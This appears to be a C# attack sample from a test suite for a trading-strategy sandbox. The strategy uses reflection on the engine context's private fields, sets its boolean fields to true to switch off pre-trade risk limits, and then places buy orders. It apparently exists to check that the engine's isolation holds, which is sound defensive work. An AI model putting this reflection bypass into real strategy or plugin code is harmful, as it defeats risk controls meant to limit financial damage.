// Abuses: GetType of the context, then InvokeMember on whatever is private in the engine.
// Harm: walks from the context to the gate and turns its limits off, or to the port behind it.
// Kind: bypass of pre-trade risk.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Reflection;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.InvokeMemberOnContextAttack;

public sealed class InvokeMemberOnContextStrategy : Strategy
{
    public override void OnBook(in BookEvent bookEvent)
    {
        const BindingFlags All = BindingFlags.Instance | BindingFlags.NonPublic | BindingFlags.Public;
        long found = 0;
        foreach (FieldInfo field in Context.GetType().GetFields(All))
        {
            object? part = field.GetValue(Context);
            found += part?.GetType().GetFields(All).Length ?? 0;
            if (field.FieldType == typeof(bool)) { field.SetValue(Context, true); }
        }

        Act(found);
    }

    public override void OnStart() => Context.Subscribe(new InstrumentId(1));

    private long _n;

    private void Act(long leak)
    {
        _n = _n * 31 + leak;
        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
        if ((_n & 1) == 0 && bid.Raw > 0)
        {
            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
        }
    }

    public override void Save(ref StateWriter writer) => writer.Write(_n);

    public override void Restore(ref StateReader reader) => _n = reader.ReadInt64();
}
